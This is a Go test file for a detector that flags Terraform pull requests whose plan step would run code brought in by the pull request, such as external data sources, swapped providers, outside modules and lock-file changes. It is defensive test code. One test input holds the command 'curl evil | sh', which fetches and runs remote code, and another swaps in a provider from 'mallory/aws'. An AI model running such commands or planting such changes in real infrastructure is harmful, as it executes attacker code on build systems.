package trust

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/planwarden/planwarden/rules"
)

// With plan_source: dispatch, what makes terraform plan run the pull
// request's own code is read from its files: a new or changed external
// data source, a changed provider source or version, a module from
// outside the repository, a changed lock file. Each case has its twin: a
// change to the same file that runs no new code gives no finding.
func TestPlanRunsPRCode(t *testing.T) {
	t.Parallel()
	const mainTF = `terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "~> 5.0" }
  }
}
resource "aws_instance" "a" { instance_type = "g5.xlarge" }
`
	ext := `data "external" "sku" {
  program = ["python3", "${path.module}/sku.py"]
}
`
	tests := map[string]struct {
		files []FileVersions
		want  []string
	}{
		"a new external data source": {
			files: []FileVersions{{Path: "infra/main.tf", Base: []byte(mainTF), Head: []byte(mainTF + ext), HeadSHA: "h1"}},
			want:  []string{"infra/main.tf: external sku [h1]: this pull request adds the external data source sku in infra/main.tf: terraform plan runs its program."},
		},
		"a changed external program": {
			files: []FileVersions{{Path: "infra/main.tf", Base: []byte(mainTF + ext), Head: []byte(mainTF + `data "external" "sku" {
  program = ["bash", "-c", "curl evil | sh"]
}
`), HeadSHA: "h2"}},
			want: []string{"infra/main.tf: external sku [h2]: this pull request changes the external data source sku in infra/main.tf: terraform plan runs its program."},
		},
		"twin: an unchanged external source, another resource changed": {
			files: []FileVersions{{Path: "infra/main.tf", Base: []byte(mainTF + ext), Head: []byte(mainTF + ext + "resource \"aws_s3_bucket\" \"b\" {}\n"), HeadSHA: "h3"}},
		},
		"twin: the same block re-indented": {
			files: []FileVersions{{Path: "infra/main.tf", Base: []byte(mainTF + ext), Head: []byte(mainTF + "data \"external\" \"sku\" {\n      program = [\"python3\",   \"${path.module}/sku.py\"]\n}\n"), HeadSHA: "h3"}},
		},
		"an external source moved between two changed files is not new": {
			files: []FileVersions{
				{Path: "infra/main.tf", Base: []byte(mainTF + ext), Head: []byte(mainTF), HeadSHA: "m1"},
				{Path: "infra/data.tf", Head: []byte(ext), HeadSHA: "d1"},
			},
		},
		"a changed provider version": {
			files: []FileVersions{{Path: "infra/versions.tf", Base: []byte(mainTF), Head: []byte(`terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "~> 6.0" }
  }
}
`), HeadSHA: "v1"}},
			want: []string{"infra/versions.tf: provider aws [v1]: this pull request changes the provider aws in required_providers of infra/versions.tf: terraform plan runs the provider binary it names."},
		},
		"a provider from another source": {
			files: []FileVersions{{Path: "infra/versions.tf", Base: []byte(mainTF), Head: []byte(`terraform {
  required_providers {
    aws = { source = "mallory/aws", version = "~> 5.0" }
  }
}
`), HeadSHA: "v2"}},
			want: []string{"infra/versions.tf: provider aws [v2]: this pull request changes the provider aws in required_providers of infra/versions.tf: terraform plan runs the provider binary it names."},
		},
		"a new provider, in JSON syntax": {
			files: []FileVersions{{Path: "infra/extra.tf.json", Head: []byte(`{"terraform": [{"required_providers": {"shell": {"source": "scottwinkler/shell"}}}]}`), HeadSHA: "j1"}},
			want:  []string{"infra/extra.tf.json: provider shell [j1]: this pull request adds the provider shell in required_providers of infra/extra.tf.json: terraform plan runs the provider binary it names."},
		},
		"an external data source in JSON syntax": {
			files: []FileVersions{{Path: "infra/x.tf.json", Base: []byte(`{}`), Head: []byte(`{"data": {"external": {"x": {"program": ["./x.sh"]}}}}`), HeadSHA: "j2"}},
			want:  []string{"infra/x.tf.json: external x [j2]: this pull request adds the external data source x in infra/x.tf.json: terraform plan runs its program."},
		},
		"a registry module's version bumped": {
			files: []FileVersions{{Path: "infra/net.tf",
				Base: []byte("module \"vpc\" {\n  source  = \"terraform-aws-modules/vpc/aws\"\n  version = \"5.0.0\"\n}\n"),
				Head: []byte("module \"vpc\" {\n  source  = \"terraform-aws-modules/vpc/aws\"\n  version = \"5.1.0\"\n}\n"), HeadSHA: "n1"}},
			want: []string{"infra/net.tf: module vpc [n1]: this pull request changes the module vpc in infra/net.tf, whose code comes from outside the repository and may run programs while planning."},
		},
		"twin: a local module's call changed": {
			files: []FileVersions{{Path: "infra/pool.tf",
				Base: []byte("module \"pool\" {\n  source = \"../modules/gpu-pool\"\n  sku = \"a\"\n}\n"),
				Head: []byte("module \"pool\" {\n  source = \"../modules/gpu-pool\"\n  sku = \"b\"\n}\n"), HeadSHA: "p1"}},
		},
		"a changed lock file": {
			files: []FileVersions{{Path: "infra/.terraform.lock.hcl", Base: []byte("provider a {}\n"), Head: []byte("provider b {}\n"), HeadSHA: "l1"}},
			want:  []string{"infra/.terraform.lock.hcl [l1]: this pull request changes the dependency lock file infra/.terraform.lock.hcl, so terraform init may install other provider binaries, which run while planning."},
		},
		"a removed lock file": {
			files: []FileVersions{{Path: ".terraform.lock.hcl", Base: []byte("provider a {}\n")}},
			want:  []string{".terraform.lock.hcl [(removed)]: this pull request removes the dependency lock file .terraform.lock.hcl, so terraform init may install other provider binaries, which run while planning."},
		},
		"twin: a lock file listed but the same": {
			files: []FileVersions{{Path: ".terraform.lock.hcl", Base: []byte("x"), Head: []byte("x"), HeadSHA: "l2"}},
		},
		"a head file planwarden cannot parse": {
			files: []FileVersions{{Path: "infra/broken.tf", Base: []byte(""), Head: []byte("data \"external\" \"x\" {\n"), HeadSHA: "b1"}},
			want:  []string{"infra/broken.tf [b1]: planwarden cannot read infra/broken.tf (line 1: Unclosed configuration block), so it cannot show that terraform plan runs no code this pull request brings."},
		},
		"a provider binary in the implied local mirror": {
			files: []FileVersions{{Path: "infra/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws", Head: []byte("\x7fELF"), HeadSHA: "e1"}},
			want:  []string{"infra/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws [e1]: this pull request changes infra/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws, in infra/terraform.d, where terraform init finds provider binaries, which run while planning."},
		},
		"twin: a README is not read": {
			files: []FileVersions{{Path: "infra/README.md", Head: []byte("data \"external\" \"x\" {}"), HeadSHA: "r1"}},
		},
	}
	for name, tc := range tests {
		var got []string
		for _, f := range PlanRunsPRCode(tc.files, "gpu") {
			if f.Rule != rules.RulePlanRunsPRCode || f.Severity != rules.SeverityBlock || f.Project != "gpu" || len(f.BlobSHAs) != 1 {
				t.Errorf("%s: finding %+v", name, f)
			}
			got = append(got, f.Address+" ["+f.BlobSHAs[0]+"]: "+f.Message)
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s: findings (-want +got):\n%s", name, diff)
		}
	}
}

// The app fetches only the files PlanRunsPRCode reads.
func TestPRCodeFiles(t *testing.T) {
	t.Parallel()
	ch := Changes{Complete: true, Files: []string{"README.md", "infra/main.tf", "infra/x.tf.json", "infra/.terraform.lock.hcl", "envs/a.tfvars", "tofu/main.tofu", "ci/plan.sh", ".terraform/providers/x", "docs/terraform.d.md"}}
	want := []string{"infra/main.tf", "infra/x.tf.json", "infra/.terraform.lock.hcl", "tofu/main.tofu", ".terraform/providers/x"}
	if diff := cmp.Diff(want, PRCodeFiles(ch)); diff != "" {
		t.Errorf("PRCodeFiles (-want +got):\n%s", diff)
	}
}
